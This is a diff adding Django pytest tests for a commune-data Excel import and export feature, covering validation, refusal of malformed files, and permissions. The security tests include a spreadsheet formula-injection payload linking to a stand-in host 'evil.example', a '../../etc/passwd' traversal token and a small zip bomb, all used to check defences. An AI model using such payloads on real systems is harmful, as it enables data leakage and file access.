@@ -1,0 +1,1003 @@
+"""Commune attributes in Excel: upload → preview → confirm, the template, exports, and the admin import.
+
+Every workbook is built with openpyxl here, goes through the real views, and the tests assert on what was (and
+was not) written to the database. Messages are requested in English (``Accept-Language: en``) so the
+assertions do not depend on compiled Vietnamese catalogues; column names and values are Vietnamese anyway.
+"""
+
+import datetime
+import io
+import zipfile
+
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.urls import reverse
+from django.utils import translation
+from openpyxl import Workbook, load_workbook
+
+from communes.models import BorderCountry, Commune, CommuneKind, Coverage
+from rollout.spreadsheets import XLSX_CONTENT_TYPE
+
+IMPORT_URL = "/communes/import/"
+ADMIN_IMPORT_URL = "/admin/communes/commune/import/"
+ADMIN_PROCESS_URL = "/admin/communes/commune/process_import/"
+EN = {"HTTP_ACCEPT_LANGUAGE": "en"}
+
+HEADERS = [
+    "Mã xã",
+    "Tên đơn vị",
+    "Loại",
+    "Mã huyện",
+    "Huyện",
+    "Trọng điểm ANTT",
+    "Biên giới",
+    "Nước giáp biên",
+    "Dân số",
+    "Định biên",
+    "Có CA chính quy từ ngày",
+    "Tình trạng bố trí",
+]
+
+# Kon Tum codes used below (demo baseline: key, border and baseline flags as in communes/demo.py).
+DAK_GLEI = 610
+NGOC_HOI = 611
+TT_DAK_GLEI = 23341  # Thị trấn Đắk Glei: township, covered since 01/07/2019
+DAK_BLO = 23344  # Xã Đắk Blô: border (Laos), key area, covered since 01/01/2020
+DAK_NHOONG = 23350  # Xã Đắk Nhoong: border (Laos), key area, covered
+DAK_MAN = 23347  # Xã Đắk Man: uncovered
+DAK_PEK = 23353  # Xã Đắk Pék: uncovered
+DAK_CHOONG = 23356  # Xã Đắk Choong: uncovered
+XOP = 23359  # Xã Xốp: uncovered
+MUONG_HOONG = 23362  # Xã Mường Hoong: uncovered
+NGOC_LINH = 23365  # Xã Ngọc Linh: uncovered
+
+
+# --- helpers -------------------------------------------------------------------------------------------
+
+
+def xlsx(headers, rows, *, blank_rows_after=()) -> bytes:
+    """A workbook built with openpyxl: one sheet, ``headers`` then ``rows``."""
+    workbook = Workbook()
+    sheet = workbook.active
+    sheet.title = "Xã"
+    sheet.append(list(headers))
+    for index, row in enumerate(rows):
+        sheet.append(list(row))
+        if index in blank_rows_after:
+            sheet.append([])
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    return buffer.getvalue()
+
+
+def upload(content: bytes, name: str = "xa.xlsx", content_type: str = XLSX_CONTENT_TYPE) -> SimpleUploadedFile:
+    return SimpleUploadedFile(name, content, content_type=content_type)
+
+
+def row_for(code: int, **changes) -> list:
+    """The commune's current values as an import row (what an export would show), with ``changes`` by
+    column name."""
+    commune = Commune.objects.select_related("district").get(code=code)
+    with translation.override("vi"):
+        values = _row_values(commune)
+    unknown = set(changes) - set(values)
+    assert not unknown, unknown
+    values.update(changes)
+    return [values[h] for h in HEADERS]
+
+
+def _row_values(commune) -> dict:
+    return {
+        "Mã xã": commune.code,
+        "Tên đơn vị": commune.name,
+        "Loại": str(commune.get_kind_display()),
+        "Mã huyện": commune.district_id,
+        "Huyện": commune.district.name,
+        "Trọng điểm ANTT": "Có" if commune.is_key_area else "Không",
+        "Biên giới": "Có" if commune.is_border else "Không",
+        "Nước giáp biên": str(commune.get_border_country_display()) if commune.border_country else None,
+        "Dân số": commune.population,
+        "Định biên": commune.staffing_norm,
+        "Có CA chính quy từ ngày": commune.baseline_covered_on,
+        "Tình trạng bố trí": str(commune.get_coverage_display()),
+    }
+
+
+def db_state() -> list[dict]:
+    """Every commune with every column, ``updated_at`` included: any write shows up."""
+    return list(Commune.objects.order_by("code").values())
+
+
+def stored_uploads(settings) -> list:
+    folder = settings.MEDIA_ROOT / "imports"
+    return sorted(folder.iterdir()) if folder.exists() else []
+
+
+def preview(client, content: bytes, name: str = "xa.xlsx", **extra):
+    return client.post(reverse("communes:commune_import"), {"file": upload(content, name)}, **EN, **extra)
+
+
+def confirm(client, token: str):
+    return client.post(reverse("communes:commune_import"), {"token": token}, **EN)
+
+
+def statuses(response) -> dict[int, str]:
+    return {row.number: row.status for row in response.context["report"].rows}
+
+
+def errors_by_row(response) -> dict[int, list[tuple[str, object, str]]]:
+    return {
+        row.number: [(e.column, e.value, e.message) for e in row.errors]
+        for row in response.context["report"].rows
+        if row.errors
+    }
+
+
+def messages_of(response) -> list[str]:
+    return [str(m) for m in response.context["messages"]] if response.context else []
+
+
+def file_error(response):
+    """The one error shown under the file field, as (code, text)."""
+    errors = response.context["form"].errors.as_data()["file"]
+    assert len(errors) == 1, errors
+    return errors[0].code, " ".join(errors[0].messages)
+
+
+def sheet_rows(content: bytes) -> list[tuple]:
+    workbook = load_workbook(io.BytesIO(content))
+    return list(workbook.worksheets[0].iter_rows(values_only=True))
+
+
+@pytest.fixture
+def admin_client(client_as):
+    return client_as("administrator")
+
+
+# --- a good file ---------------------------------------------------------------------------------------
+
+
+@pytest.mark.django_db
+def test_good_file_previews_every_row_then_confirm_writes_and_recomputes_coverage(
+    demo_baseline, admin_client, settings, django_capture_on_commit_callbacks
+):
+    assert Commune.objects.filter(coverage=Coverage.UNCOVERED).count() == 54
+    assert Commune.objects.get(code=DAK_MAN).coverage == Coverage.UNCOVERED
+    content = xlsx(
+        HEADERS,
+        [
+            # An uncovered commune gets regular police since 15/03/2021 (text date) and a population.
+            row_for(DAK_MAN, **{"Có CA chính quy từ ngày": "15/03/2021", "Dân số": 3500}),
+            # Exactly as in the database: unchanged.
+            row_for(DAK_PEK),
+            # A real date cell, a staffing norm written as text, key area set with "x".
+            row_for(
+                DAK_CHOONG,
+                **{
+                    "Có CA chính quy từ ngày": datetime.datetime(2022, 6, 1),
+                    "Định biên": "7",
+                    "Trọng điểm ANTT": "x",
+                },
+            ),
+            # A border commune: the country written as its Vietnamese label, population with a thousands dot.
+            row_for(DAK_BLO, **{"Nước giáp biên": "Lào", "Dân số": "4.321"}),
+        ],
+    )
+    before = db_state()
+
+    response = preview(admin_client, content)
+
+    assert response.status_code == 200
+    assert statuses(response) == {2: "changed", 3: "unchanged", 4: "changed", 5: "changed"}
+    report = response.context["report"]
+    assert report.ok
+    assert report.totals == {"new": 0, "changed": 3, "unchanged": 1, "error": 0}
+    changes = {row.number: {c[0]: (c[1], c[2]) for c in row.changes} for row in report.rows}
+    assert changes[2] == {"Dân số": (None, 3500), "Có CA chính quy từ ngày": (None, datetime.date(2021, 3, 15))}
+    assert changes[3] == {}
+    assert changes[4] == {
+        "Trọng điểm ANTT": ("Không", "Có"),
+        "Định biên": (None, 7),
+        "Có CA chính quy từ ngày": (None, datetime.date(2022, 6, 1)),
+    }
+    assert changes[5] == {"Dân số": (None, 4321)}
+    html = response.content.decode()
+    assert 'data-testid="import-confirm"' in html
+    assert html.count('data-status="changed"') == 3
+    assert html.count('data-status="unchanged"') == 1
+    assert "Xã Đắk Man" in html
+    # The preview wrote nothing.
+    assert db_state() == before
+    token = response.context["token"]
+    assert token and token in html
+    assert len(stored_uploads(settings)) == 1
+
+    with django_capture_on_commit_callbacks(execute=True):
+        response = confirm(admin_client, token)
+
+    assert response.status_code == 302
+    assert response["Location"] == reverse("communes:commune_list")
+    dak_man = Commune.objects.get(code=DAK_MAN)
+    assert dak_man.baseline_covered_on == datetime.date(2021, 3, 15)
+    assert dak_man.population == 3500
+    assert dak_man.coverage == Coverage.BASELINE
+    assert dak_man.is_demo is False
+    dak_choong = Commune.objects.get(code=DAK_CHOONG)
+    assert (dak_choong.is_key_area, dak_choong.staffing_norm, dak_choong.baseline_covered_on) == (
+        True,
+        7,
+        datetime.date(2022, 6, 1),
+    )
+    assert dak_choong.coverage == Coverage.BASELINE
+    dak_blo = Commune.objects.get(code=DAK_BLO)
+    assert (dak_blo.population, dak_blo.border_country, dak_blo.is_demo) == (4321, BorderCountry.LAOS, False)
+    # The unchanged row and every commune not in the file are untouched (still demo data).
+    after = {row["code"]: row for row in db_state()}
+    for row in before:
+        if row["code"] not in (DAK_MAN, DAK_CHOONG, DAK_BLO):
+            assert after[row["code"]] == row
+    assert Commune.objects.get(code=DAK_PEK).is_demo is True
+    assert Commune.objects.filter(coverage=Coverage.UNCOVERED).count() == 52
+    # The stored upload is gone, and the same token cannot be used twice.
+    assert stored_uploads(settings) == []
+    follow = admin_client.get(response["Location"], **EN)
+    assert any("Import finished: 0 new, 3 changed, 1 unchanged." in m for m in messages_of(follow))
+    written = db_state()
+    again = confirm(admin_client, token)
+    assert again.status_code == 302
+    assert again["Location"] == reverse("communes:commune_import")
+    assert db_state() == written
+
+
+@pytest.mark.django_db
+def test_a_file_with_only_some_columns_changes_only_those(demo_baseline, admin_client):
+    """Columns left out of the file are left alone (a blank "Biên giới" would mean "Không", a missing one
+    means "keep")."""
+    content = xlsx(["Mã xã", "Dân số"], [[DAK_BLO, 1200], [DAK_MAN, "2 500"]])
+    before = {row["code"]: row for row in db_state()}
+
+    response = preview(admin_client, content)
+    assert statuses(response) == {2: "changed", 3: "changed"}
+    response = confirm(admin_client, response.context["token"])
+
+    assert response.status_code == 302
+    dak_blo = Commune.objects.get(code=DAK_BLO)
+    assert (dak_blo.population, dak_blo.is_border, dak_blo.border_country, dak_blo.is_key_area) == (
+        1200,
+        True,
+        BorderCountry.LAOS,
+        True,
+    )
+    assert dak_blo.baseline_covered_on == before[DAK_BLO]["baseline_covered_on"]
+    assert Commune.objects.get(code=DAK_MAN).population == 2500
+
+
+@pytest.mark.django_db
+def test_clearing_the_baseline_date_uncovers_the_commune(
+    demo_baseline, admin_client, django_capture_on_commit_callbacks
+):
+    assert Commune.objects.get(code=TT_DAK_GLEI).coverage == Coverage.BASELINE
+    content = xlsx(HEADERS, [row_for(TT_DAK_GLEI, **{"Có CA chính quy từ ngày": None})])
+
+    response = preview(admin_client, content)
+    assert statuses(response) == {2: "changed"}
+    with django_capture_on_commit_callbacks(execute=True):
+        confirm(admin_client, response.context["token"])
+
+    commune = Commune.objects.get(code=TT_DAK_GLEI)
+    assert commune.baseline_covered_on is None
+    assert commune.coverage == Coverage.UNCOVERED
+    assert Commune.objects.filter(coverage=Coverage.UNCOVERED).count() == 55
+
+
+@pytest.mark.django_db
+def test_row_numbers_are_the_spreadsheet_rows_even_after_blank_rows(demo_baseline, admin_client):
+    content = xlsx(
+        HEADERS,
+        [row_for(DAK_MAN), row_for(DAK_PEK), row_for(XOP, **{"Dân số": "abc"})],
+        blank_rows_after=(0,),
+    )
+    # Rows: 1 headers, 2 Đắk Man, 3 blank, 4 Đắk Pék, 5 Xốp.
+    response = preview(admin_client, content)
+
+    assert response.status_code == 400
+    assert statuses(response) == {2: "unchanged", 4: "unchanged", 5: "error"}
+    assert errors_by_row(response)[5][0][:2] == ("Dân số", "abc")
+
+
+# --- a file with bad rows ------------------------------------------------------------------------------
+
+
+@pytest.mark.django_db
+def test_bad_rows_show_every_error_and_nothing_is_written(demo_baseline, admin_client, settings):
+    content = xlsx(
+        HEADERS,
+        [
+            row_for(TT_DAK_GLEI, **{"Dân số": 9000}),  # 2: a good row, but the file is refused as a whole
+            row_for(DAK_MAN, **{"Mã xã": 99999}),  # 3: unknown commune
+            row_for(DAK_MAN, **{"Dân số": "abc"}),  # 4: not a number
+            row_for(DAK_PEK, **{"Dân số": -5}),  # 5: negative
+            row_for(DAK_CHOONG, **{"Mã huyện": NGOC_HOI}),  # 6: the district does not own the commune
+            row_for(XOP, **{"Trọng điểm ANTT": "có lẽ"}),  # 7: not yes/no
+            row_for(MUONG_HOONG, **{"Có CA chính quy từ ngày": "31/02/2021"}),  # 8: no such date
+            row_for(NGOC_LINH, **{"Nước giáp biên": "Lào"}),  # 9: a country on a non-border commune
+            row_for(DAK_BLO, **{"Định biên": 0}),  # 10: staffing norm below one
+            row_for(DAK_NHOONG, **{"Nước giáp biên": "Thái Lan"}),  # 11: not a neighbouring country
+        ],
+    )
+    before = db_state()
+
+    response = preview(admin_client, content)
+
+    assert response.status_code == 400
+    report = response.context["report"]
+    assert not report.ok
+    assert response.context["token"] is None
+    assert statuses(response) == {
+        2: "changed",
+        3: "error",
+        4: "error",
+        5: "error",
+        6: "error",
+        7: "error",
+        8: "error",
+        9: "error",
+        10: "error",
+        11: "error",
+    }
+    errors = errors_by_row(response)
+    assert set(errors) == set(range(3, 12))
+    assert [(column, value) for column, value, _ in errors[3]] == [("Mã xã", 99999)]
+    assert "99999" in errors[3][0][2]
+    assert [(column, value) for column, value, _ in errors[4]] == [("Dân số", "abc")]
+    assert "whole number" in errors[4][0][2]
+    assert [(column, value) for column, value, _ in errors[5]] == [("Dân số", -5)]
+    assert [(column, value) for column, value, _ in errors[6]] == [("Mã huyện", NGOC_HOI)]
+    assert str(DAK_GLEI) in errors[6][0][2]
+    assert "Huyện Đắk Glei" in errors[6][0][2]
+    assert [(column, value) for column, value, _ in errors[7]] == [("Trọng điểm ANTT", "có lẽ")]
+    assert "Có" in errors[7][0][2]
+    assert [(column, value) for column, value, _ in errors[8]] == [("Có CA chính quy từ ngày", "31/02/2021")]
+    assert "dd/mm/yyyy" in errors[8][0][2]
+    assert [(column, value) for column, value, _ in errors[9]] == [("Nước giáp biên", "Lào")]
+    assert "Biên giới" in errors[9][0][2]
+    assert [(column, value) for column, value, _ in errors[10]] == [("Định biên", 0)]
+    assert [(column, value) for column, value, _ in errors[11]] == [("Nước giáp biên", "Thái Lan")]
+    assert "Lào" in errors[11][0][2]
+    # The page says so: every error with its row, column and value; no confirm button.
+    html = response.content.decode()
+    assert 'data-testid="import-refused"' in html
+    assert 'data-testid="import-confirm"' not in html
+    assert "9 rows have errors. Nothing was written" in html
+    assert html.count('data-status="error"') == 9
+    for needle in (
+        "<strong>Mã xã</strong> = “99999”",
+        "<strong>Dân số</strong> = “abc”",
+        "<strong>Dân số</strong> = “-5”",
+        "<strong>Mã huyện</strong> = “611”",
+        "<strong>Trọng điểm ANTT</strong> = “có lẽ”",
+        "<strong>Có CA chính quy từ ngày</strong> = “31/02/2021”",
+        "<strong>Nước giáp biên</strong> = “Lào”",
+        "<strong>Định biên</strong> = “0”",
+        "<strong>Nước giáp biên</strong> = “Thái Lan”",
+    ):
+        assert needle in html, needle
+    for number in range(3, 12):
+        assert f"<td>{number}</td>" in html
+    # Nothing written, nothing kept.
+    assert db_state() == before
+    assert stored_uploads(settings) == []
+
+
+@pytest.mark.django_db
+def test_a_commune_listed_twice_is_an_error(demo_baseline, admin_client):
+    content = xlsx(HEADERS, [row_for(DAK_MAN, **{"Dân số": 100}), row_for(DAK_MAN, **{"Dân số": 200})])
+    before = db_state()
+
+    response = preview(admin_client, content)
+
+    assert response.status_code == 400
+    assert statuses(response) == {2: "changed", 3: "error"}
+    [(column, value, message)] = errors_by_row(response)[3]
+    assert (column, value) == ("Mã xã", DAK_MAN)
+    assert "row 2" in message
+    assert db_state() == before
+
+
+@pytest.mark.django_db
+def test_a_missing_commune_code_in_a_row_is_an_error(demo_baseline, admin_client):
+    content = xlsx(HEADERS, [row_for(DAK_MAN, **{"Mã xã": None, "Dân số": 10})])
+
+    response = preview(admin_client, content)
+
+    assert response.status_code == 400
+    [(column, _value, message)] = errors_by_row(response)[2]
+    assert column == "Mã xã"
+    assert "missing" in message
+
+
+@pytest.mark.django_db
+def test_an_unknown_column_is_refused(demo_baseline, admin_client):
+    """A misspelt header would otherwise be ignored silently, and the user would believe it imported."""
+    before = db_state()
+    response = preview(admin_client, xlsx(["Mã xã", "Dan so"], [[DAK_MAN, 100]]))
+
+    assert response.status_code == 400
+    code, text = file_error(response)
+    assert code == "unknown_header"
+    assert "Dan so" in text
+    assert db_state() == before
+
+
+@pytest.mark.django_db
+def test_confirm_with_a_tampered_or_expired_token_writes_nothing(demo_baseline, admin_client, client, users):
+    content = xlsx(HEADERS, [row_for(DAK_MAN, **{"Dân số": 777})])
+    response = preview(admin_client, content)
+    token = response.context["token"]
+    before = db_state()
+
+    for bad in ("x" * 32, token[:-1] + ("A" if token[-1] != "A" else "B"), "../../etc/passwd", ""):
+        response = confirm(admin_client, bad)
+        assert response.status_code == 302, bad
+        assert response["Location"] == reverse("communes:commune_import")
+        follow = admin_client.get(response["Location"], **EN)
+        assert any("expired" in m for m in messages_of(follow)), bad
+        assert db_state() == before
+
+    # A new session (signed out and in again) does not know the token any more.
+    admin_client.logout()
+    admin_client.force_login(users["administrator"])
+    response = confirm(admin_client, token)
+    assert response.status_code == 302
+    assert db_state() == before
+
+
+@pytest.mark.django_db
+def test_confirm_checks_every_row_again_and_writes_nothing_if_one_went_bad(demo_baseline, admin_client, settings):
+    content = xlsx(HEADERS, [row_for(DAK_MAN, **{"Dân số": 100}), row_for(DAK_PEK, **{"Dân số": 200})])
+    response = preview(admin_client, content)
+    assert response.context["report"].ok
+    # Between preview and confirm, the second commune disappears.
+    Commune.objects.filter(code=DAK_PEK).delete()
+    before = db_state()
+
+    response = confirm(admin_client, response.context["token"])
+
+    assert response.status_code == 400
+    assert statuses(response) == {2: "changed", 3: "error"}
+    assert errors_by_row(response)[3][0][:2] == ("Mã xã", DAK_PEK)
+    assert db_state() == before
+    assert Commune.objects.get(code=DAK_MAN).population is None
+    assert stored_uploads(settings) == []
+
+
+# --- files that are not a usable workbook --------------------------------------------------------------
+
+
+def _broken_zip() -> bytes:
+    return b"PK\x03\x04" + b"\x00garbage" * 40
+
+
+def _zip_without_workbook() -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        archive.writestr("hello.txt", "xin chào")
+    return buffer.getvalue()
+
+
+def _truncated_workbook() -> bytes:
+    content = xlsx(HEADERS, [[DAK_MAN]])
+    return content[: len(content) // 2]
+
+
+def _workbook_with_broken_sheet() -> bytes:
+    """A well-formed ZIP whose sheet XML is not XML."""
+    source = zipfile.ZipFile(io.BytesIO(xlsx(HEADERS, [[DAK_MAN]])))
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        for item in source.infolist():
+            data = source.read(item.filename)
+            if item.filename == "xl/worksheets/sheet1.xml":
+                data = b"<worksheet><sheetData><row><c" + b"\x00" * 10
+            archive.writestr(item, data)
+    return buffer.getvalue()
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(
+    ("name", "content", "code", "text"),
+    [
+        ("xa.csv", "Mã xã,Dân số\n23347,100\n".encode(), "extension", "Only Excel workbooks (.xlsx)"),
+        ("xa.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "extension", "Only Excel workbooks"),
+        ("xa.xlsx", "Mã xã,Dân số\n23347,100\n".encode(), "not_xlsx", "not an Excel workbook"),
+        ("xa.xlsx", b"<html><body>hello</body></html>", "not_xlsx", "not an Excel workbook"),
+        ("xa.xlsx", _zip_without_workbook(), "not_xlsx", "not an Excel workbook"),
+        ("xa.xlsx", _broken_zip(), "bad_zip", "damaged"),
+        ("xa.xlsx", _truncated_workbook(), "bad_zip", "damaged"),
+        ("xa.xlsx", _workbook_with_broken_sheet(), "bad_xlsx", "damaged"),
+        ("xa.xlsx", xlsx(HEADERS, []), "empty", "no data rows"),
+        ("xa.xlsx", xlsx([], []), "empty", "no header row"),
+        ("xa.xlsx", xlsx(["Dân số", "Định biên"], [[100, 5]]), "missing_header", "Mã xã"),
+        ("xa.xlsx", xlsx(["Mã xã", "Dân số", "Dân số"], [[DAK_MAN, 1, 2]]), "duplicate_header", "Dân số"),
+        ("XA.XLSX", "not a zip".encode(), "not_xlsx", "not an Excel workbook"),
+    ],
+    ids=[
+        "csv",
+        "xls",
+        "csv-renamed-xlsx",
+        "html-renamed-xlsx",
+        "zip-not-workbook",
+        "broken-zip",
+        "truncated-workbook",
+        "broken-sheet-xml",
+        "headers-no-rows",
+        "no-headers",
+        "missing-code-column",
+        "duplicate-column",
+        "upper-case-extension",
+    ],
+)
+def test_unusable_files_are_refused_with_a_reason(demo_baseline, admin_client, settings, name, content, code, text):
+    before = db_state()
+
+    response = preview(admin_client, content, name)
+
+    assert response.status_code == 400
+    error_code, error_text = file_error(response)
+    assert error_code == code
+    assert text in error_text
+    html = response.content.decode()
+    assert 'data-testid="file-error"' in html
+    assert 'data-testid="import-preview"' not in html
+    assert db_state() == before
+    assert stored_uploads(settings) == []
+
+
+@pytest.mark.django_db
+def test_an_empty_upload_is_refused(demo_baseline, admin_client, settings):
+    before = db_state()
+
+    response = preview(admin_client, b"")
+
+    assert response.status_code == 400
+    assert response.context["form"].errors["file"]
+    assert 'data-testid="file-error"' in response.content.decode()
+    assert db_state() == before
+    assert stored_uploads(settings) == []
+
+
+@pytest.mark.django_db
+def test_a_post_without_a_file_is_refused(demo_baseline, admin_client):
+    response = admin_client.post(reverse("communes:commune_import"), {}, **EN)
+
+    assert response.status_code == 400
+    assert response.context["form"].errors["file"]
+
+
+@pytest.mark.django_db
+def test_a_file_over_the_size_limit_is_refused_before_it_is_read(demo_baseline, admin_client, settings):
+    content = xlsx(HEADERS, [row_for(code, **{"Dân số": 1}) for code in (DAK_MAN, DAK_PEK, XOP)])
+    settings.IMPORT_MAX_UPLOAD_BYTES = len(content) - 1
+    before = db_state()
+
+    response = preview(admin_client, content)
+
+    assert response.status_code == 400
+    code, text = file_error(response)
+    assert code == "too_large"
+    assert "too large" in text
+    assert db_state() == before
+
+    settings.IMPORT_MAX_UPLOAD_BYTES = len(content)
+    assert preview(admin_client, content).status_code == 200
+
+
+@pytest.mark.django_db
+def test_a_workbook_that_expands_too_much_is_refused(demo_baseline, admin_client, settings):
+    """A zip bomb in miniature: a few kilobytes that expand well past the limit."""
+    filler = "A" * 30_000
+    content = xlsx(["Mã xã", "Ghi chú"], [[DAK_MAN, filler] for _ in range(40)])
+    assert len(content) < 60_000  # the compressed file is small...
+    settings.IMPORT_MAX_UNCOMPRESSED_BYTES = 200_000  # ...but it expands past 1 MB
+    before = db_state()
+
+    response = preview(admin_client, content)
+
+    assert response.status_code == 400
+    code, text = file_error(response)
+    assert code == "too_large"
+    assert "expands" in text
+    assert db_state() == before
+
+
+@pytest.mark.django_db
+def test_a_file_with_too_many_rows_is_refused(demo_baseline, admin_client, settings):
+    settings.IMPORT_MAX_ROWS = 2
+    content = xlsx(HEADERS, [row_for(code) for code in (DAK_MAN, DAK_PEK, XOP)])
+
+    response = preview(admin_client, content)
+
+    assert response.status_code == 400
+    code, text = file_error(response)
+    assert code == "too_many_rows"
+    assert "2" in text
+
+
+# --- template and export -------------------------------------------------------------------------------
+
+
+@pytest.mark.django_db
+def test_template_has_the_vietnamese_headers_and_no_rows(demo_baseline, admin_client):
+    response = admin_client.get(reverse("communes:commune_template"))
+
+    assert response.status_code == 200
+    assert response["Content-Type"] == XLSX_CONTENT_TYPE
+    assert 'filename="mau-nhap-xa.xlsx"' in response["Content-Disposition"]
+    rows = sheet_rows(response.content)
+    assert rows == [tuple(HEADERS)]
+    # The import page links to it.
+    page = admin_client.get(reverse("communes:commune_import"))
+    assert page.status_code == 200
+    assert reverse("communes:commune_template") in page.content.decode()
+
+
+@pytest.mark.django_db
+def test_the_filled_in_template_imports(demo_baseline, admin_client, django_capture_on_commit_callbacks):
+    template = admin_client.get(reverse("communes:commune_template")).content
+    workbook = load_workbook(io.BytesIO(template))
+    sheet = workbook.worksheets[0]
+    sheet.append([DAK_MAN, None, None, DAK_GLEI, None, "Có", "Không", None, 1500, 6, "01/01/2024", None])
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+
+    response = preview(admin_client, buffer.getvalue())
+    assert statuses(response) == {2: "changed"}
+    with django_capture_on_commit_callbacks(execute=True):
+        confirm(admin_client, response.context["token"])
+
+    commune = Commune.objects.get(code=DAK_MAN)
+    assert (commune.is_key_area, commune.population, commune.staffing_norm) == (True, 1500, 6)
+    assert commune.coverage == Coverage.BASELINE
+
+
+@pytest.mark.django_db
+def test_export_has_vietnamese_headers_and_every_commune(demo_baseline, admin_client):
+    response = admin_client.get(reverse("communes:commune_export"))
+
+    assert response.status_code == 200
+    assert response["Content-Type"] == XLSX_CONTENT_TYPE
+    assert "attachment;" in response["Content-Disposition"]
+    assert ".xlsx" in response["Content-Disposition"]
+    headers, *rows = sheet_rows(response.content)
+    assert list(headers) == HEADERS
+    assert len(rows) == 102
+    by_code = {row[0]: dict(zip(HEADERS, row, strict=True)) for row in rows}
+    assert by_code[DAK_BLO]["Tên đơn vị"] == "Xã Đắk Blô"
+    with translation.override("vi"):
+        labels = {
+            "commune": str(CommuneKind.COMMUNE.label),
+            "township": str(CommuneKind.TOWNSHIP.label),
+            "laos": str(BorderCountry.LAOS.label),
+            "uncovered": str(Coverage.UNCOVERED.label),
+        }
+    assert by_code[DAK_BLO]["Loại"] == labels["commune"]
+    assert by_code[DAK_BLO]["Mã huyện"] == DAK_GLEI
+    assert by_code[DAK_BLO]["Huyện"] == "Huyện Đắk Glei"
+    assert by_code[DAK_BLO]["Biên giới"] == "Có"
+    assert by_code[DAK_BLO]["Nước giáp biên"] == labels["laos"]
+    assert by_code[DAK_BLO]["Có CA chính quy từ ngày"] == datetime.datetime(2020, 1, 1)
+    assert by_code[DAK_MAN]["Trọng điểm ANTT"] == "Không"
+    assert by_code[DAK_MAN]["Có CA chính quy từ ngày"] is None
+    assert by_code[TT_DAK_GLEI]["Loại"] == labels["township"]
+    assert sum(1 for row in by_code.values() if row["Tình trạng bố trí"] == labels["uncovered"]) == 54
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(
+    ("query", "expected"),
+    [
+        ({"kind": "ward"}, lambda qs: qs.filter(kind="ward")),
+        ({"coverage": "uncovered"}, lambda qs: qs.filter(coverage=Coverage.UNCOVERED)),
+        ({"is_border": "yes"}, lambda qs: qs.filter(is_border=True)),
+        ({"q": "kon ray"}, lambda qs: qs.filter(district_id=614)),
+        ({"district": str(DAK_GLEI)}, lambda qs: qs.filter(district_id=DAK_GLEI)),
+        (
+            {"district": str(DAK_GLEI), "coverage": "uncovered"},
+            lambda qs: qs.filter(district_id=DAK_GLEI, coverage="uncovered"),
+        ),
+    ],
+    ids=["kind", "coverage", "border", "search", "district", "district-and-coverage"],
+)
+def test_export_respects_the_list_filters(demo_baseline, admin_client, query, expected):
+    response = admin_client.get(reverse("communes:commune_export"), query)
+
+    assert response.status_code == 200
+    _headers, *rows = sheet_rows(response.content)
+    wanted = set(expected(Commune.objects.all()).values_list("code", flat=True))
+    assert wanted
+    assert {row[0] for row in rows} == wanted
+
+
+@pytest.mark.django_db
+def test_export_is_limited_to_the_users_area(demo_baseline, client_as):
+    client = client_as("district_clerk")
+
+    response = client.get(reverse("communes:commune_export"))
+
+    assert response.status_code == 200
+    _headers, *rows = sheet_rows(response.content)
+    own = set(Commune.objects.filter(district_id=DAK_GLEI).values_list("code", flat=True))
+    assert {row[0] for row in rows} == own
+    assert {row[3] for row in rows} == {DAK_GLEI}
+    # Asking for another district gives nothing from it.
+    response = client.get(reverse("communes:commune_export"), {"district": str(NGOC_HOI)})
+    _headers, *rows = sheet_rows(response.content)
+    assert not {row[0] for row in rows} - own
+
+
+@pytest.mark.django_db
+def test_export_then_import_unchanged_is_a_no_op(demo_baseline, admin_client, django_capture_on_commit_callbacks):
+    Commune.objects.filter(code=DAK_MAN).update(population=12345, staffing_norm=4)
+    exported = admin_client.get(reverse("communes:commune_export")).content
+    before = db_state()
+
+    response = preview(admin_client, exported, "danh-sach-xa.xlsx")
+
+    assert response.status_code == 200
+    report = response.context["report"]
+    assert report.totals == {"new": 0, "changed": 0, "unchanged": 102, "error": 0}
+    assert set(statuses(response)) == set(range(2, 104))
+    with django_capture_on_commit_callbacks(execute=True):
+        response = confirm(admin_client, response.context["token"])
+    assert response.status_code == 302
+    assert db_state() == before
+
+
+@pytest.mark.django_db
+def test_export_escapes_formulas_and_the_round_trip_still_works(demo_baseline, admin_client):
+    dangerous = {
+        DAK_MAN: '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
+        DAK_PEK: "+1+1",
+        DAK_CHOONG: "-2+3",
+        XOP: "@SUM(1,2)",
+        MUONG_HOONG: "\t=1+1",
+    }
+    for code, name in dangerous.items():
+        Commune.objects.filter(code=code).update(name=name)
+
+    exported = admin_client.get(reverse("communes:commune_export")).content
+
+    sheet = load_workbook(io.BytesIO(exported)).worksheets[0]
+    names = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
+    for code, name in dangerous.items():
+        cell = names[code]
+        assert cell.data_type == "s", name
+        assert cell.value == "'" + name
+    assert names[DAK_BLO].value == "Xã Đắk Blô"
+    # No formula anywhere in the workbook.
+    with zipfile.ZipFile(io.BytesIO(exported)) as archive:
+        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
+    # Names are read-only: the escaped export imports back as unchanged.
+    before = db_state()
+    response = preview(admin_client, exported)
+    assert response.context["report"].totals["unchanged"] == 102
+    assert db_state() == before
+
+
+# --- permissions ---------------------------------------------------------------------------------------
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("role", ["committee", "provincial_clerk", "district_clerk", "no_role"])
+def test_only_administrators_may_import(demo_baseline, client_as, role, settings):
+    client = client_as(role)
+    content = xlsx(HEADERS, [row_for(DAK_MAN, **{"Dân số": 1})])
+    before = db_state()
+
+    assert client.get(reverse("communes:commune_import")).status_code == 403
+    assert client.get(reverse("communes:commune_template")).status_code == 403
+    assert client.post(reverse("communes:commune_import"), {"file": upload(content)}).status_code == 403
+    assert client.post(reverse("communes:commune_import"), {"token": "x" * 32}).status_code == 403
+    assert client.get(ADMIN_IMPORT_URL).status_code in (302, 403)
+    assert client.post(
+        ADMIN_IMPORT_URL, {"resource": "0", "format": "0", "import_file": upload(content)}
+    ).status_code in (
+        302,
+        403,
+    )
+    assert db_state() == before
+    assert stored_uploads(settings) == []
+
+
+@pytest.mark.django_db
